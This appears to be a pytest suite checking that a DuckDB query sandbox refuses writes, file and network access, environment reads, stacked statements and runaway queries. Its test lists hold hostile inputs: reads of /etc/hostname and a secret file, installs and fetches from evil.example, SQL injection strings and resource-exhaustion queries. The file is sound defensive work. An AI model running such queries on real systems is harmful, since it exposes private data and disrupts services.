"""Nobody gets out of a query: not to files, not to the network, not to the environment, and not past its limits."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from partner_analytics import Portfolio, QueryError
from partner_analytics.demo import DEMO_DAY

SECRET = "hush-4711"
RAW = re.compile(
    r"(Binder|Catalog|Parser|Conversion|Permission|IO|Invalid\w*|Internal) Error|Candidate|LINE \d|duckdb\."
)
"""What DuckDB says itself, which nobody need understand."""


@pytest.fixture(scope="module")
def portfolio(tmp_path_factory: pytest.TempPathFactory) -> Portfolio:
    """The demo, in a folder whose name nobody may learn, with a file beside it that nobody may read."""
    folder = tmp_path_factory.mktemp("demo") / "hidden-folder"
    portfolio = Portfolio(Portfolio.demo(folder).db, DEMO_DAY)
    (folder / "secret.txt").write_text(SECRET)
    (folder / "secret.csv").write_text(f"column\n{SECRET}\n")
    (folder / "demo.duckdb.tmp").mkdir()
    (folder / "demo.duckdb.tmp" / "left.csv").write_text(f"column\n{SECRET}\n")
    return portfolio


def contents(folder: Path) -> dict[Path, bytes]:
    """Every file below a folder."""
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def refusal(portfolio: Portfolio, query: str, seconds: float = 10, **parameters: Any) -> QueryError:
    """The error of a query, which is one sentence and a hint; the store and its folder are as they were."""
    store_then = portfolio.db.read_bytes()
    files_then = contents(portfolio.db.parent)
    start = time.monotonic()
    with pytest.raises(QueryError) as refused:
        portfolio.sql(query, max_seconds=seconds, **parameters)
    # Its own time, the second in which it may notice, and what it takes to start on a busy machine.
    assert time.monotonic() - start < seconds + 15
    assert portfolio.db.read_bytes() == store_then
    assert contents(portfolio.db.parent) == files_then
    error = refused.value
    assert error.exit_code == 12
    assert error.hint
    assert "\n" not in error.message + error.hint
    assert error.message.endswith(".")
    assert not RAW.search(str(error)), error
    assert "hidden-folder" not in str(error)
    assert SECRET not in str(error)
    return error


WRITES = [
    "insert into loads select * from loads",
    "update loads set accepted = 0",
    "delete from quarantine",
    "truncate loads",
    "drop table loads",
    "drop view customers",
    "alter table loads add column x int",
    "create table mine as select 1",
    "create temp table mine as select 1",
    "create or replace view customers as select 1",
    "create macro f() as 1",
    "create schema mine",
    "create sequence s",
    "create type mood as enum ('a')",
    "comment on table loads is 'mine'",
    "merge into loads using loads as l on true when matched then delete",
    "with gone as (delete from loads returning *) select * from gone",
    "with gone as materialized (insert into loads select * from loads returning *) from gone",
    "begin",
    "rollback",
    "checkpoint",
    "force checkpoint",
    "vacuum",
    "analyze",
    "from checkpoint()",
    "from force_checkpoint('store')",
    "select write_log('x')",
    "from enable_logging(storage = 'file', storage_config = {'path': 'log.csv'})",
    "call enable_logging(storage_path = 'log')",
    "from enable_profiling(save_location = 'profile.json')",
    "select nextval('s')",
]
FILES = [
    "copy (select 1) to 'stolen.csv'",
    "copy loads from 'secret.csv'",
    "copy loads to '/tmp/stolen.parquet' (format parquet)",
    "explain analyze copy (select 1) to 'stolen.csv'",
    "export database 'stolen'",
    "import database 'stolen'",
    "attach 'stolen.duckdb'",
    "attach 'secret.txt' as s (type sqlite)",
    "detach store",
    "use memory",
    "select * from read_text('/etc/hostname')",
    "select * from read_text('secret.txt')",
    "select * from read_text(['secret.txt'])",
    "select * from read_blob('secret.txt')",
    "select * from read_csv('/etc/hostname')",
    "select * from read_csv_auto('secret.csv')",
    "select * from read_json('secret.csv')",
    "select * from read_ndjson_objects('secret.csv')",
    "select * from read_parquet('secret.csv')",
    "select * from parquet_metadata('secret.csv')",
    "select * from sniff_csv('secret.csv')",
    "select * from read_duckdb('demo.duckdb')",
    "select * from '/etc/hostname'",
    "select * from 'secret.csv'",
    "select * from 'demo.duckdb'",
    'select * from "secret.csv"',
    "select * from glob('/etc/*')",
    "select * from glob('*')",
    "select (select content from read_text('secret.txt'))",
    "select * from customers where exists (from read_text('secret.txt'))",
    "with a as (from read_text('secret.txt')) select * from a",
    "select * from customers order by (select size from read_blob('secret.txt'))",
    "select * from (values (1)) t, lateral (from read_text('secret.txt'))",
    "describe select * from read_csv('secret.csv')",
    "summarize from read_csv('secret.csv')",
    "describe 'secret.csv'",
    "select * from query('select * from read_text(''secret.txt'')')",
    "select * from query_table('secret.csv')",
    "select * from query_table(['loads', 'secret.csv'])",
    "select * from histogram('secret.csv', 'column')",
    "select * from json_execute_serialized_sql(json_serialize_sql('from read_text(''secret.txt'')'))",
    "pragma json_execute_serialized_sql('{}')",
    "select json_serialize_plan('from read_text(''secret.txt'')')",
    "select * from seq_scan('loads')",
    "select * from arrow_scan(0, 0, 0)",
    "select * from pandas_scan(0)",
    "select * from python_map_function(0)",
    "prepare p as select 1",
    "execute p",
    "deallocate p",
]
NETWORK = [
    "install httpfs",
    "install httpfs from 'http://evil.example'",
    "load httpfs",
    "load './evil.duckdb_extension'",
    "select * from 'http://evil.example/x.csv'",
    "select * from 'https://evil.example/x.parquet'",
    "select * from read_csv('http://evil.example/x.csv')",
    "select * from read_parquet('s3://evil/x.parquet')",
    "attach 'http://evil.example/x.duckdb'",
    "attach 'host=evil.example' as p (type postgres)",
    "create secret s (type s3)",
    "from which_secret('s3://evil', 's3')",
    "from duckdb_secrets()",
    "from add_grammar_extension('x')",
    "from create_external_resource('x')",
]
SURROUNDINGS = [
    "select getenv('HOME')",
    "select 'HOME'.getenv()",
    "select sum(1) over (partition by getenv('HOME')) from customers",
    "select count(*) filter (where getenv('HOME') = 'x') from customers",
    "select list_transform(['HOME'], lambda x: getenv(x))",
    "select * replace (getenv('HOME') as city) from customers",
    "from (values (getenv('HOME'))) as t",
    "select 1 limit getenv('HOME')",
    "select GetEnv /* a comment */ ('HOME')",
    "select \"getenv\"('HOME')",
    "select system.main.getenv('HOME')",
    "set enable_external_access = true",
    "set threads = 1",
    "set memory_limit = '64GB'",
    "set variable x = 1",
    "set lock_configuration = false",
    "reset memory_limit",
    "pragma threads = 8",
    "pragma database_list",
    "pragma database_size",
    "call pragma_version()",
    "call duckdb_settings()",
    "select current_setting('temp_directory')",
    "select main.current_setting('home_directory')",
    "from duckdb_databases()",
    "from duckdb_databases",
    "from system.main.duckdb_databases()",
    "from pragma_database_list",
    "from main.pragma_database_list",
    "from pragma_database_size()",
    "from duckdb_settings()",
    "from pg_catalog.pg_settings",
    "from pg_settings",
    "from duckdb_logs",
    "from duckdb_temporary_files()",
    "from duckdb_external_file_cache()",
    "from duckdb_extensions()",
    "from duckdb_variables()",
    "from duckdb_functions()",
    "from duckdb_tables()",
    "from sqlite_master",
    "describe pragma_database_list",
    "summarize duckdb_settings()",
    "with pg_settings as (select 1) from pg_settings, pg_catalog.pg_settings",
    "from pragma_storage_info('loads')",
    "from customers_as_of((select max(path) from duckdb_databases()))",
    "select columns(c -> c = getenv('HOME')) from customers",
    "show temp_directory",
    "show memory_limit",
    "show variables",
    'show "temp_directory"',
    "select sleep_ms(60000)",
    "explain select * from customers",
    "explain analyze select * from customers",
]
SEVERAL = [
    "select 1; select 2",
    "select 1; drop table loads",
    "select 1; -- nothing\ndrop table loads",
    "select 1) ; drop table loads; --",
    "select 1) as answer; drop table loads; select (1",
    "select 1) union all (select 2",
    "select 1) as a, (select 2",
    "select 1 -- \n) ; drop table loads",
    "select $$ ) ; drop table loads; $$) as a; select (1",
    "select '1' '); drop table loads; --",
    "select 1;\x00drop table loads",
    "",
    " ",
    ";",
    "-- nothing",
    "/* nothing */",
    "this is not sql",
    "select",
    "(((",
    "select 'open",
    'select "open',
    "select $$open",
    "\\d",
    ".read secret.txt",
    "select \ud800",
    "\N{ZERO WIDTH SPACE}",
]
DEEP = [
    "select " + "(" * 5000 + "1" + ")" * 5000,
    "select " + "(" * 50_000,
    "select " + "[" * 900 + "]" * 900,
    "select " + "-" * 3000 + "1",
    "select " + " + ".join(["1"] * 20_000),
    "select " + "not " * 5000 + "true",
    "select * from " + "(select * from " * 1500 + "customers" + ")" * 1500,
    "select case " + "when true then case " * 1500 + "end " * 1501,
    "select '" + "x" * 200_000 + "'",
]


@pytest.mark.sampled(14)
@pytest.mark.promise("queries")
@pytest.mark.parametrize(
    "query", [*WRITES, *FILES, *NETWORK, *SURROUNDINGS, *SEVERAL, *DEEP], ids=lambda query: query[:60]
)
def test_a_query_that_does_more_than_read_the_store_is_refused(query: str, portfolio: Portfolio) -> None:
    refusal(portfolio, query)


ENDLESS = [
    "select count(*) from range(1000000000000)",
    "select count(*) from range(1000000000) a, range(1000000000) b where a.range % 7 = b.range % 11",
    "select count(*) from licenses a, licenses b, licenses c, licenses d, licenses e",
    "with recursive t(a) as (select 1 union all select a + 1 from t) select max(a) from t",
    "with recursive t(a) as (select 1 union all select a + 1 from t) select a from t where a < 0",
    "select sum(levenshtein(repeat('a', 100000), repeat('b', 100000 + range::int))) from range(100)",
    "select lpad('x', 2000000000, 'y')",
    "select length(regexp_replace(repeat('ab', 400000000), '(a|b)+c', 'x', 'g'))",
    "select " + ",".join(["1"] * 45_000),
    "select list_sum(list_transform(range(300000000), lambda x: x * 2))",
    "select list_reduce(range(100000000), lambda a, b: (a * b) % 7)",
    "select md5(string_agg(range::varchar, ',')) from range(1000000000)",
    "select max(hash(a.range, b.range)) from range(1000000) a cross join range(1000000) b",
]


@pytest.mark.sampled(3)
@pytest.mark.promise("queries")
@pytest.mark.parametrize("query", ENDLESS, ids=lambda query: query[:60])
def test_a_query_that_takes_too_long_is_stopped(query: str, portfolio: Portfolio) -> None:
    error = refusal(portfolio, query, seconds=0.5)
    assert "longer than 0.5 seconds" in error.message or "more memory" in error.message


ENORMOUS = [
    "select repeat('x', 1000000000)",
    "select length(repeat('x', 3000000000))",
    "select repeat('x', 1000000) from range(100000)",
    "select repeat('x', 20000) from range(10000)",
    "select list_aggregate(range(2000000000), 'sum')",
    "select list(range) from range(1000000000)",
    "select string_agg(repeat('x', 1000), '') from range(10000000)",
    "select printf('%2000000000d', 1)",
    "select count(distinct a.range::varchar || b.range) from range(10000) a, range(10000) b",
    "select bitstring('1', 2000000000)::varchar",
    "with recursive t(a) as (select 'a' union all select a || a from t) select length(a) from t",
    "select * from range(300000000) order by hash(range) desc limit 1000000",
    "select array_agg(a.range order by random()) from range(100000) a, range(10000) b",
    "select map_from_entries(list((range, repeat('x', 1000)))) from range(1000000)",
]


@pytest.mark.sampled(3)
@pytest.mark.parametrize("query", ENORMOUS, ids=lambda query: query[:60])
def test_a_query_that_takes_too_much_memory_is_stopped(query: str, portfolio: Portfolio) -> None:
    error = refusal(portfolio, query, seconds=2)
    assert re.search("more memory|was stopped|of text", error.message), error


@pytest.mark.sampled(0)
@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="only Linux limits the memory of a process")
def test_no_query_takes_more_than_two_gigabytes_of_the_machine(portfolio: Portfolio) -> None:
    code = f"""
import resource
from datetime import date
from pathlib import Path
from partner_analytics import Portfolio, QueryError
portfolio = Portfolio(Path({str(portfolio.db)!r}), date(2026, 11, 2))
for query in {ENORMOUS[:4]!r}:
    try:
        portfolio.sql(query, max_seconds=2)
    except QueryError:
        pass
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert int(said.stdout) < 2_100_000


def test_no_process_is_left_behind_by_a_query_that_is_stopped(portfolio: Portfolio) -> None:
    refusal(portfolio, "select lpad('x', 2000000000, 'y')", seconds=0.2)
    running = subprocess.run(
        ["ps", "-o", "args=", "--ppid", str(os.getpid())], capture_output=True, text=True, check=False
    )
    assert "partner_analytics.ask.sandbox" not in running.stdout


ANSWERED = [
    "select current_database(), current_catalog, current_schema(), current_user, version(), current_schemas(true)",
    "from information_schema.tables",
    "from information_schema.columns",
    "from information_schema.schemata",
    "show all tables",
    "show databases",
    "show tables",
    "show schemas",
    "describe customers",
    "summarize customers",
    "describe protection_status",
    "select typeof(loads) from loads",
    "from customers_as_of(date '2026-11-02')",
    "select parse_path('a/b'), user, session_user, pg_my_temp_schema()",
    "from pg_timezone_names()",
    "select * from loads",
]


@pytest.mark.sampled(2)
@pytest.mark.promise("queries")
@pytest.mark.parametrize("query", ANSWERED)
def test_no_answer_tells_where_the_store_is_or_what_its_file_is_called(query: str, portfolio: Portfolio) -> None:
    answer = str(portfolio.sql(query).to_dicts())
    assert "hidden-folder" not in answer
    assert portfolio.db.stem not in answer
    assert str(Path.home()) not in answer or "loads" in query


def test_a_query_sees_nothing_of_the_environment(portfolio: Portfolio, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PARTNER_ANALYTICS_SECRET", SECRET)
    refusal(portfolio, "select getenv('PARTNER_ANALYTICS_SECRET')")


@pytest.mark.parametrize(
    "query",
    [
        "select custmer_name from protection_status",
        "select p.custmer_name from protection_status as p",
        "select * exclude (custmer_name) from protection_status",
    ],
)
def test_a_column_that_is_not_there_is_named_with_the_nearest(query: str, portfolio: Portfolio) -> None:
    error = refusal(portfolio, query)
    assert error.message == "There is no column `custmer_name` in the tables of the query."
    assert error.hint == "did you mean `customer_name`?"


@pytest.mark.sampled(2)
@pytest.mark.parametrize(
    ("query", "message", "hint"),
    [
        ("from protection_statsu", "There is no table `protection_statsu`.", "did you mean `protection_status`?"),
        ("from custmers", "There is no table `custmers`.", "did you mean `customers`?"),
        ("select lenght('a')", "There is no function `lenght`.", "did you mean `length`?"),
        ("selct * from customers", "The query cannot be read from `selct` on, in line 1.", "did you mean `select` where it says `selct`?"),
        ("select *\nfrom customers\nwher city = 'x'", "The query cannot be read from `city` on, in line 3.", "did you mean `where` where it says `wher`?"),
        ("select city, count(*) from customers", "The column `city` is selected, but the query does not group by it.", "add it to `group by`, or write any_value(city)."),
        ("select customer_id from customers, licenses", "The name `customer_id` stands in more than one of the tables.", "write the name of its table before it: table.customer_id"),
        ("select sum(city) from customers", "The function `sum` does not take values of these types: VARCHAR.", "cast the value: sum(cast(value as bigint)); or check how many values it takes."),
        ("select x.city from customers", "The query names a table `x` that is not in its `from`.", "add it to `from`, or use the short name that it has there."),
        ("select $days", "The query has a parameter `$days` without a value.", "give it one: -p days=VALUE"),
    ],
)  # fmt: skip
def test_what_is_wrong_with_a_query_is_said_in_plain_words(
    query: str, message: str, hint: str, portfolio: Portfolio
) -> None:
    error = refusal(portfolio, query)
    assert (error.message, error.hint) == (message, hint)


WRONG = [
    "select * from customers where billing_type = 5 + 'a'",
    "select * from licenses where quantity = 'abc'",
    "select cast(city as int) from customers",
    "select 9223372036854775807 + 1",
    "select error('boo')",
    "select error('the database file is corrupt')",
    "select error('could not set lock on file')",
    "select (select customer_id from customers)",
    "select * from customers where count(*) > 1",
    "select max(sum(quantity)) from licenses",
    "select 1 union select 1, 2",
    "select city from customers order by 7",
    "select strptime('x', '%Y')",
    "select regexp_matches('a', '(')",
    "select cast(1 as nosuch)",
    "from customers_as_of()",
    "select * from a.b.c",
    "select ?",
    "select date '2026-02-30'",
    "select unnest(1)",
    "select * from customers join licenses using (nope)",
]


@pytest.mark.sampled(3)
@pytest.mark.parametrize("query", WRONG)
def test_every_mistake_is_one_sentence_of_ours_and_a_hint(query: str, portfolio: Portfolio) -> None:
    refusal(portfolio, query)


def test_a_value_that_no_query_can_hold_is_refused(portfolio: Portfolio) -> None:
    refusal(portfolio, "select $value", value=object())


def test_a_refused_query_ends_with_12_in_the_terminal(portfolio: Portfolio) -> None:
    for query in ("select * from read_csv('/etc/hostname')", "select custmer_id from customers"):
        said = subprocess.run(
            [sys.executable, "-m", "partner_analytics", "sql", query, "--db", portfolio.db, "--as-of", str(DEMO_DAY)],
            capture_output=True,
            encoding="utf-8",
            check=False,
        )
        assert (said.returncode, said.stdout) == (12, "")
        assert re.fullmatch(r"Error: .+\.\nHint: .+\n", said.stderr)
